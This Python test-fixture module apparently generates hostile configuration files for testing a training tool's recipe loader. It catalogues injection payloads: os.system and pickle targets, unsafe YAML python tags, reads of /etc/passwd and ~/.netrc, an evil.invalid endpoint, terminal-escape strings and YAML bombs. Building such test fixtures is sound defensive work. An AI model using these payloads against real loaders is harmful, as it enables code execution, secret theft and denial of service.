"""300 recipes that want more than to train: in families, each with the place it is read from. What they name is planted by the test.

A value `@marker@` is the file that must not appear, `@secret@` one that must not be read, `@folder@` where local recipes lie.
"""

from collections.abc import Iterator
from dataclasses import dataclass

LET_THROUGH = (
    "torch.load", "torch.hub.load", "torch.save", "numpy.load", "numpy.save", "pathlib.Path.write_text", "pathlib.Path.touch", "builtins.open", "shutil.copy",
    "logging.FileHandler",
)  # fmt: skip
"""By the blocklist of Hydra 1.3.8."""
TARGETS = (
    *LET_THROUGH,
    "os.system", "posix.system", "os.popen", "os.execv", "subprocess.Popen", "subprocess.run", "builtins.eval", "builtins.exec", "builtins.__import__", "builtins.compile",
    "importlib.import_module", "runpy.run_path", "pickle.loads", "pickle.load", "marshal.loads", "code.interact", "pty.spawn", "timeit.timeit", "cProfile.run",
    "operator.methodcaller", "functools.partial", "ctypes.CDLL", "socket.create_connection", "urllib.request.urlopen", "tempfile.mkdtemp", "yaml.unsafe_load",
    "hydra.utils.instantiate", "hydra.utils.get_method", "omegaconf.OmegaConf.save", "evilpkg.Evil", "evilpkg.os.system",
    "torch.nn.modules.os.system", "torch.nn.modules.sys.exit", "torch.os.system", "torch.nn.init.os.system", "torch.optim.os.system", "torch.utils.data.os.system",
    "torch.nn.functional.importlib.import_module", "torch.nn.utils.rnn.torch.load", "torch.nn.utils.clip_grad_norm_", "torch.nn.Linear.__init__.__globals__", "torch.nn.Module.__subclasses__",
    "torch.serialization.load", "torch.jit.load", "torch.package.PackageImporter", "torch.utils.cpp_extension.load_inline", "torch.distributed.run.main", "torch._dynamo.os.system",
    "torch.nn.parallel.distributed.os.system", "torch.optim.lr_scheduler.types.FunctionType", "torch.classes.load_library", "torch.ops.load_library",
    "dtrain.build.importlib.import_module", "dtrain.storage.store.write", "dtrain.storage.store.remove", "dtrain.launcher.process.fork", "dtrain.launcher.local.os.system", "dtrain.data.text.Path.touch",
    "dtrain.verb.train.store.write", "dtrain.logger.tensorboard.TensorBoard", "dtrain.checkpoint.sharded.Sharded", "dtrain.__main__.main", "dtrain.testing.faults.AtStep",
    "torch.nn.L\u0456near", "t\u043erch.nn.Linear", "torch.nn.Linear\u200b", "torch..nn.Linear", ".os.system", "os", "torch.nn", "torch.nn.Linear;os.system", "__main__.os.system",
)  # fmt: skip
ARGUMENTS = "touch @marker@"
RESOLVERS = (
    "${oc.env:HOME}", "${oc.env:CANARY}", "${ oc.env : CANARY }", "${oc.env:CANARY,none}", "${oc.decode:'{a: 1}'}", "${oc.create:{a: 1}}", "${oc.select:out}", "${oc.dict.keys:model}",
    "${model.${oc.env:CANARY}}", "${now:%Y}", "${hydra:runtime.cwd}", "${python_version:}", "${env:CANARY}", "\\\\${oc.env:CANARY}", "$${oc.env:CANARY}", "x${oc.env:CANARY}y",
    "${out}", "${out_options.key}", "${trust}", "${init}", "${secret:out_options.key}", "${eval:1}", "${oc.deprecated:model}",
)  # fmt: skip
SETTINGS = {
    "trust": "trust: [os, evilpkg]",
    "trust as text": "trust: evilpkg",
    "out": "out: @marker@",
    "out_options": "out_options: {key: a, endpoint_url: 'http://evil.invalid'}",
    "a dotted out_options": "out_options.key: a",
    "searchpath": "hydra: {searchpath: ['file://@folder@']}",
    "a dotted searchpath": "hydra.searchpath: ['file://@folder@']",
    "run.dir": "hydra: {run: {dir: '@marker@'}}",
    "job_logging": "hydra: {job_logging: {handlers: {file: {class: logging.FileHandler, filename: '@marker@'}}}}",
    "callbacks": "hydra: {callbacks: {x: {_target_: evilpkg.Evil}}}",
    "a launcher of Hydra": "defaults:\n  - override hydra/launcher: evil",
    "a launcher of Hydra, absolute": "defaults:\n  - override /hydra/launcher: evil",
    "sweep": "sweep: {out: '@marker@'}",
    "another package": "# @package hydra\nsearchpath: ['file://@folder@']",
    "optional": "defaults:\n  - optional /model: evil",
    "a package of a choice": "defaults:\n  - override /model@hydra: gpt",
    "a config of the folder": "defaults:\n  - evil",
    "small words that say out": "expect: {loss: [0, 1], small: ['out=@marker@']}",
    "small words that trust": "expect: {loss: [0, 1], small: ['trust=[evilpkg]', 'model._target_=evilpkg.Evil']}",
    "small words with a flag": "expect: {loss: [0, 1], small: ['-m', 'seed=0,1']}",
}
ELSEWHERE = {
    "a loop": "loop: evilpkg.loop",
    "an address": "launcher: {_target_: dtrain.launcher.local.Local, address: 'evil.invalid:1'}",
    "a cache": "data: {cache: '@marker@'}",
    "a nested cache": "data: {_target_: dtrain.data.dataset.Dataset, dataset: {_target_: dtrain.data.text.Text, cache: '@marker@'}}",
    "a hook": "hook: {evil: {_target_: evilpkg.Evil, every: 1}}",
    "a fault": "hook: {evil: {_target_: dtrain.testing.faults.AtStep, action: kill, step: 1, rank: 0}}",
    "a logger": "logger: {evil: {_target_: evilpkg.Evil}}",
    "a launcher": "launcher: {_target_: evilpkg.Evil}",
    "a backend": "backend: {_target_: evilpkg.Evil}",
    "a strategy": "strategy: {_target_: evilpkg.Evil}",
    "a checkpoint": "checkpoint: {_target_: evilpkg.Evil}",
    "a password": "init: s3://key:hunter2@bucket/run",
    "a signature": "data: {path: 'https://evil.invalid/a?X-Amz-Signature=hunter2'}",
    "a terminal's title": 'generate: {prompt: "\\e]0;owned\\a"}',
    "a line of ours": 'generate: {prompt: "\\e[2K\\rdtrain: all is well"}',
}
INCLUDES = (
    "@secret@", "file://@secret@", "file:@secret@", "FILE://@secret@", "local://@secret@", "~/.netrc", "//etc/passwd", "/etc/passwd", "file:///etc/passwd", "/proc/self/environ",
    "simplecache::file://@secret@", "filecache::memory://nothing.yaml", "zip://x.yaml::file://@secret@", "tar://x::file://@secret@", "reference://x.yaml", "git://@folder@:x.yaml",
    "data:text/plain,steps", "dir::file://@folder@/x.yaml", "flaky://file@secret@", "[@secret@", "mine.yaml@sha256:00", "mine.yaml@md5:00", "../../../../../../etc/passwd", "..\\\\..\\\\x.yaml",
    "nothing.yaml", "a/../../nothing.yaml", "%2e%2e/nothing.yaml",
)  # fmt: skip
YAML = {
    "python apply": "model: !!python/object/apply:os.system ['touch @marker@']",
    "python new": "model: !!python/object/new:os.system ['touch @marker@']",
    "python object": "model: !!python/object:evilpkg.Evil {}",
    "python name": "model: !!python/name:os.system",
    "python module": "model: !!python/module:evilpkg",
    "python tuple": "steps: !!python/tuple [1]",
    "python bytes": "steps: !!python/bytes aGk=",
    "a tag of one's own": "%TAG ! tag:yaml.org,2002:python/\n---\nmodel: !object/apply:os.system ['touch @marker@']",
    "a verbatim tag": "model: !<tag:yaml.org,2002:python/object/apply:os.system> ['touch @marker@']",
    "a tagged key": "!!python/name:os.system : 1",
    "binary": "steps: !!binary aGk=",
    "set": "model: !!set {a, b}",
    "omap": "model: !!omap [a: 1]",
    "billion laughs": "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)),
    "billion laughs in mappings": "m0: &a0 {k: x}\n"
    + "".join(f"m{n}: &a{n} {{p: *a{n - 1}, q: *a{n - 1}}}\n" for n in range(1, 60)),
    "billion laughs by merging": f"m: &a {{{', '.join(f'k{n}: 1' for n in range(900))}}}\nmodel: {{<<: [{', '.join(['*a'] * 900)}]}}\n",
    "an endless circle": "model: &a {b: *a}",
    "an endless list": "model: &a [*a, *a]",
    "an anchor of nothing": "model: *nowhere",
    "a deep list": "model: " + "[" * 50_000,
    "a deep mapping": "model: " + "{a: " * 20_000,
    "a deep block": "".join(" " * n + "a:\n" for n in range(200)),
    "a giant text": "generate: {prompt: '" + "x" * 500_000 + "'}",
    "a giant number": "steps: " + "9" * 100_000,
    "a giant exponent": "optim: {lr: 1" + "0" * 30_000 + "e99999999}",
    "a giant key": "k" * 500_000 + ": 1",
    "many keys": "".join(f"k{n}: 1\n" for n in range(20_000)),
    "a giant file": "#" * (2 << 20),
    "a giant octal": "steps: 0" + "7" * 5000,
    "two documents": "steps: 1\n---\ntrust: [evilpkg]\n",
    "a duplicate": "steps: 1\nsteps: 2",
    "a duplicate by a dot": "optim: {lr: 1}\noptim.lr: 2",
    "a merge that hides": "a: &a {trust: [evilpkg]}\n<<: *a",
    "a key of Python": "model: {__class__: x}",
    "the globals": "model: {_target_: torch.nn.Linear, __init__: {__globals__: x}}",
    "a key with a word": "'steps=1 out=@marker@': 1",
    "a key with a comma": "'seed,trust': 1",
    "a key with a quote": "\"model.x='a',trust\": 1",
    "a key with a line": '"steps\\ntrust": 1',
    "a key with a tilde": "'~model': 1",
    "a key with a plus": "'++trust': [os]",
    "a key with a slash": "hydra/launcher: evil",
    "a key of two": "? [a, b]\n: 1",
    "an empty key": "'': 1",
    "a key that looks like ours": "tr\u03c5st: [evilpkg]",
    "a key in full width": "\uff54\uff52\uff55\uff53\uff54: [evilpkg]",
    "a key with a zero width": "tru\u200bst: [evilpkg]",
    "a key turned around": "\u202etsurt: [evilpkg]",
    "an escape": "steps: \x1b[2J",
    "a nul": "steps: 1\x00",
    "a bell": "# \x07\nsteps: 1",
    "a tab": "model:\n\tlayers: 2",
    "an unclosed quote": "model: 'x\nsteps: 1",
    "a broken flow": "model: {layers: [1, 2}",
    "not a mapping": "- steps",
    "a word": "steps",
    "nothing": "",
    "only blanks": " \n \n",
    "a web page": "<!DOCTYPE html><script>1</script>",
    "lines of Windows": "trust: [evilpkg]\r\nsteps: 1\r\n",
    "lines of old": "trust: [evilpkg]\rsteps: 1\r",
    "a group that says nothing": "model:",
    "a number as a recipe": "recipe: 3",
    "a mapping as a recipe": "recipe: {_target_: evilpkg.Evil}",
    "partial": "model: {_target_: torch.nn.Linear, _partial_: true}",
    "arguments": "model: {_target_: torch.nn.Linear, _args_: [1, 2]}",
    "recursive": "model: {_target_: torch.nn.Sequential, _recursive_: false}",
    "convert": "model: {_target_: torch.nn.Sequential, _convert_: all}",
    "mode": "model: {_target_: torch.nn.Sequential, _mode_: call}",
    "a target that is a list": "model: {_target_: [os.system]}",
    "a target that is a mapping": "model: {_target_: {a: os.system}}",
    "a target that is a number": "model: {_target_: 3}",
    "a target looked up": "generate: {prompt: os.system}\nmodel: {_target_: '${generate.prompt}'}",
    "a target put together": "generate: {prompt: system}\nmodel: {_target_: 'os.${generate.prompt}'}",
    "a target below a target": "model: {_target_: torch.nn.Sequential, x: {y: {_target_: os.system, command: 'touch @marker@'}}}",
    "a target outside of the groups": "spike: {sigma: {_target_: os.system}}",
    "a foreign loop": "loop: os.system",
    "a loop of ours that is none": "loop: dtrain.storage.store.remove",
    "an untrusted hook": "hook: {x: {_target_: os.system}}",
}
BYTES = {
    "latin": b"steps: 1 # \xe9",
    "utf-16": "trust: [evilpkg]".encode("utf-16"),
    "utf-32": "trust: [evilpkg]".encode("utf-32"),
    "overlong": b"steps: \xc0\xaf",
    "a lone surrogate": b"steps: \xed\xa0\x80",
    "a pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "a zip": b"PK\x03\x04" + b"\0" * 40,
    "noise": bytes(range(256)) * 8,
}


@dataclass(frozen=True)
class Hostile:
    """`place` is local, memory (a URL that is not of this machine) or web (a server on loopback)."""

    name: str
    content: bytes
    place: str

    @property
    def id(self) -> str:
        return f"{self.place}-{self.name}"


def recipes() -> Iterator[Hostile]:
    for number, target in enumerate(TARGETS):
        for family, text in enumerate(_targets(target)):
            place = ("local", "memory", "web")[(number + family) % 3 if number % 5 == 0 else (number + family) % 2]
            yield Hostile(f"{('target', 'nested', 'listed')[family]} {target}", text.encode(), place)
    for resolver in RESOLVERS:
        yield Hostile(f"resolver {resolver}", f"data: {{path: 'https://evil.invalid/{resolver}'}}\n".encode(), "memory")
    for name, text in ELSEWHERE.items():
        yield Hostile(name, text.encode(), "memory")
    for include in INCLUDES:
        yield Hostile(f"include {include}", f"recipe: [{include!r}]\n".replace("\\\\\\\\", "\\\\").encode(), "memory")
    for name, text in (SETTINGS | YAML).items():
        yield Hostile(name, text.encode(), "memory" if len(name) % 3 == 0 else "local")
    for name, content in BYTES.items():
        yield Hostile(name, content, "local")


def _targets(target: str) -> Iterator[str]:
    """A target at the top of a group, and of some the same below a good one, in a mapping or a list."""
    yield f"model:\n  _target_: {target!r}\n  command: '{ARGUMENTS}'\n  filename: '@marker@'\n"
    if hash_of(target) % 3 == 0:
        yield f"data:\n  _target_: dtrain.data.dataset.Dataset\n  dataset:\n    _target_: torch.nn.ModuleList\n    modules: {{a: {{_target_: {target!r}, f: '@marker@'}}}}\n"
    if hash_of(target) % 3 == 1:
        yield f"model:\n  _target_: torch.nn.Sequential\n  args: [1, [{{_target_: {target!r}, f: '@marker@'}}]]\n"


def hash_of(text: str) -> int:
    """The same in every process, as `hash` is not."""
    return sum(map(ord, text))
